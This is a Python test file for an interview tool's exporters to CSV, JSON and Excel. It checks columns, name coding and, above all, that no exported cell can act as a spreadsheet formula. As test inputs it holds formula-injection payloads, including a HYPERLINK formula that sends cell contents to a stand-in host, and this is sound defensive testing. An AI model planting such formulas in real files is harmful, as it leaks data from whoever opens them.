"""Results as files: every text as it was said, and nothing in it that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from xml.etree import ElementTree

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from interviewer.calibration.rating_files import WORDS, Rating, read_ratings
from interviewer.contracts import Results
from interviewer.domain.words import Verdict
from interviewer.kits.export import COLUMNS, candidate_rows, csv_bytes, inert, ratings_jsonl, rows, to_csv, to_json
from interviewer.kits.formats import FORMS
from interviewer.kits.results import coded
from interviewer.kits.workbook import MOST_CHARACTERS, to_xlsx
from tests.cli.test_contracts import valid
from tests.kits.resulting import LEAKAGE, decision, grade, interview, invitation, made, rater, rating

MET, PARTIAL = Verdict.MET, Verdict.PARTIAL
FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"see")'
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def some(label: str = "Ada", answer: str = "A cause.", who: str = "Anna") -> Results:
    return made(
        [invitation(1, label, "a"), invitation(2, "Ben", "b")],
        [interview("a", [answer, "y"]), interview("b", ["x", "y"])],
        grades={
            "a": {1: grade(quote=(2, answer), score=2.5, low=1.5, high=3, doubtful=True, cause=MET)},
            "b": {1: grade(), 2: grade(LEAKAGE, score=5, band=5, what=MET)},
        },
        raters=[rater(who)],
        ratings=[rating(who, 4, cause=MET, remedy=PARTIAL)],
        decisions={("b", 1): [decision(2, ("b", 1))]},
    )


def table(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheets(content: bytes) -> dict[str, list[list[tuple[str, str]]]]:
    """The cells of a workbook by sheet and row, each as (kind, text); the kind of a formula would be "f"."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        texts = ["".join(part.text or "" for part in item.iter(f"{SHEET}t")) for item in shared]
        names = [
            one.attrib["name"] for one in ElementTree.fromstring(book.read("xl/workbook.xml")).iter(f"{SHEET}sheet")
        ]
        found = {}
        for number, name in enumerate(names, 1):
            tree = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
            assert not list(tree.iter(f"{SHEET}hyperlink"))
            found[name] = [[_cell(cell, texts) for cell in row] for row in tree.iter(f"{SHEET}row")]
        return found


def _cell(cell: ElementTree.Element, texts: list[str]) -> tuple[str, str]:
    if cell.find(f"{SHEET}f") is not None:
        return "f", ""
    value = cell.find(f"{SHEET}v")
    text = "" if value is None else value.text or ""
    return ("s", texts[int(text)]) if cell.attrib.get("t") == "s" else ("n", text)


def test_a_row_for_each_whole_answer_and_one_for_each_criterion() -> None:
    found = table(to_csv(some()))
    assert [(r["candidate"], r["question"], r["criterion"]) for r in found] == [
        ("Ada", "drift", ""),
        ("Ada", "drift", "cause"),
        ("Ada", "drift", "remedy"),
        ("Ada", "leakage", ""),
        ("Ada", "leakage", "what"),
        ("Ben", "drift", ""),
        ("Ben", "drift", "cause"),
        ("Ben", "drift", "remedy"),
        ("Ben", "leakage", ""),
        ("Ben", "leakage", "what"),
    ]


def test_what_stands_and_what_the_machine_said_are_in_columns_of_their_own() -> None:
    whole, cause, *_ = table(to_csv(some()))
    assert (whole["stands"], whole["stands_by"], whole["machine"], whole["machine_score"]) == (
        "4",
        "people",
        "3",
        "2.5",
    )
    assert (whole["machine_low"], whole["machine_high"], whole["doubtful"]) == ("1.5", "3.0", "yes")
    assert whole["people"] == "Anna: 4"
    assert (cause["stands"], cause["machine"], cause["quotes"]) == ("met", "met", "A cause.")
    decided = next(r for r in table(to_csv(some())) if r["stands_by"] == "decision")
    assert (decided["stands"], decided["decided_by"], decided["decision_reason"]) == ("2", "Dana", "It was all there.")


def test_csv_begins_with_the_mark_by_which_spreadsheets_know_utf_8() -> None:
    assert to_csv(some("Zoë")).startswith(b"\xef\xbb\xbf")
    assert table(to_csv(some("Zoë")))[0]["candidate"] == "Zoë"


def test_every_row_has_every_column() -> None:
    assert {len(row) for row in rows(some())} == {len(COLUMNS)}
    assert len({column.name for column in COLUMNS}) == len(COLUMNS)


def test_json_is_what_the_contract_says() -> None:
    found = some()
    valid("results", json.loads(to_json(found)))
    assert Results.model_validate_json(to_json(found)) == found


def test_ratings_are_read_by_calibrate_as_they_were_given() -> None:
    read = read_ratings(ratings_jsonl(some()))
    assert read.problems == ()
    assert Rating("Ada/1", "Anna", 4.0, None, "Ada") in read.ratings
    assert Rating("Ada/1", "Anna", WORDS["partial"], "drift/remedy", "Ada", word=True) in read.ratings
    assert Rating("Ada/1", "machine: offline 2", 3.0, None, "Ada") in read.ratings
    assert Rating("Ben/2", "machine: offline 2", WORDS["met"], "leakage/what", "Ben", word=True) in read.ratings
    assert len(read.ratings) == 1 + 2 + 1 + 2 + 1 + 2 + 1 + 1, "Anna's, then the machine's of Ada and of Ben"


def test_two_candidates_of_one_name_are_two_items() -> None:
    found = made(
        [invitation(1, "Ada", "a"), invitation(2, "ADA", "b")],
        [interview("a", ["x", "y"]), interview("b", ["x", "y"])],
        grades={"a": {1: grade()}, "b": {1: grade()}},
    )
    read = read_ratings(ratings_jsonl(found))
    assert {one.item for one in read.ratings} == {"Ada (Candidate 01)/1", "ADA (Candidate 02)/1"}


def test_codes_leave_no_name_in_any_file() -> None:
    hidden = coded(some("Ada Lovelace"))
    for form in FORMS.values():
        content = form.made(hidden)
        texts = json.dumps(sheets(content)) if form.name == "xlsx" else content.decode()
        assert "Lovelace" not in texts
        assert "Candidate 01" in texts


def test_the_overall_of_a_candidate_says_of_how_many_answers_it_is() -> None:
    ada, ben = candidate_rows(some())
    assert ada[-5:-2] == [1, 2, 4]
    assert ben[-5:-2] == [2, 2, 3.5]


# --- formulas -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\t1",
        "  =1",
        "\u00a0=1",
        "\u3000＝1",
        "＋1",
        "－1",
        "＠A1",
        "\u200b=1",
        "\ufeff=1",
    ],
)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert inert(text).startswith("'")
    assert inert(text).replace("'", "") == text


@pytest.mark.parametrize("text", ["", "1", "a = b", "x-1", "mail@example", "'=1", "≈ 3", "(=1)"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


TROUBLE = st.text(st.sampled_from("=+-@;,\t\r\n\" '＝＋－＠a1|!()\u00a0\u3000\u200b\ufeff"), max_size=30)


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula: a sign after nothing but white space and what is unseen."""
    seen = re.sub(r"^[\s\u200b\ufeff]+", "", cell)
    return seen[:1] in tuple("=+-@＝＋－＠")


@given(st.lists(st.lists(TROUBLE, min_size=2, max_size=3), min_size=1, max_size=3), st.sampled_from(",;\t"))
@example([["a", "b;=1"]], ";")
@example([["a", 'b;"=1'], ["a", 'b\n"\n=1']], ";")
@example([["a", "b\t \t@x"]], "\t")
@settings(max_examples=400)
def test_no_cell_is_read_back_as_a_formula_wherever_csv_is_cut(table: list[list[str]], delimiter: str) -> None:
    text = csv_bytes(["one", "two"], table).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        assert not [cell for cell in row if dangerous(cell)]
        assert delimiter != "," or not [cell for cell in row if cell[:1] in ("\t", "\r", "\n")]


@given(st.lists(TROUBLE, min_size=1, max_size=3))
def test_read_as_it_is_written_csv_has_the_texts_but_for_apostrophes(texts: list[str]) -> None:
    text = csv_bytes([str(place) for place in range(len(texts))], [texts]).decode("utf-8-sig")
    _, read = csv.reader(io.StringIO(text, newline=""))
    assert [cell.replace("'", "") for cell in read] == [text.replace("'", "") for text in texts]


def test_a_very_long_text_of_nothing_but_line_ends_is_made_inert_at_once() -> None:
    assert inert("\n" * 100_000 + "=") == "'" + "\n" * 100_000 + "'="


@pytest.mark.parametrize("text", [FORMULA, "http://127.0.0.1/x", "12", "1e5", "{=1}", "-", "internal:Sheet1!A1"])
def test_a_workbook_has_what_people_typed_as_text_and_nothing_else(text: str) -> None:
    found = sheets(to_xlsx(some(label=text, answer=text, who=text)))
    kinds = {cell[0] for rows in found.values() for row in rows for cell in row}
    assert kinds == {"s", "n"}, "no formula anywhere"
    assert ("s", text) in found["Results"][1]
    assert ("s", text) in found["Answers"][2]
    assert ("s", text) in found["Ratings"][1]


def test_a_workbook_marks_texts_so_that_editing_a_cell_does_not_make_a_formula_of_it() -> None:
    with zipfile.ZipFile(io.BytesIO(to_xlsx(some(FORMULA)))) as book:
        assert b'quotePrefix="1"' in book.read("xl/styles.xml")


def test_a_workbook_says_what_it_is_of_and_what_its_columns_mean() -> None:
    found = sheets(to_xlsx(some()))
    assert list(found) == ["Results", "Candidates", "Answers", "Ratings", "About"]
    about = {row[0][1]: row[-1][1] for row in found["About"] if row}
    assert about["Kit"] == "Spring"
    newest = some().kit.versions[-1]
    assert about["Newest version"] == f"1, content {newest.content}"
    assert about["Made at"] == some().at.isoformat(timespec="seconds")
    assert set(about) >= {column.name for column in COLUMNS}


def test_a_text_that_is_too_long_for_a_cell_is_cut_where_one_sees_it() -> None:
    found = sheets(to_xlsx(some(answer="🙂" * 20_000)))
    said = next(cell[1] for row in found["Answers"] for cell in row if cell[1].startswith("🙂"))
    assert len(said.encode("utf-16-le")) // 2 <= MOST_CHARACTERS
    assert said.endswith("the JSON file has the whole text)")


def test_numbers_are_numbers_in_a_workbook() -> None:
    header, first, *_ = sheets(to_xlsx(some()))["Results"]
    assert ("s", "stands") in header
    assert ("n", "4") in first
    assert ("n", "2.5") in first
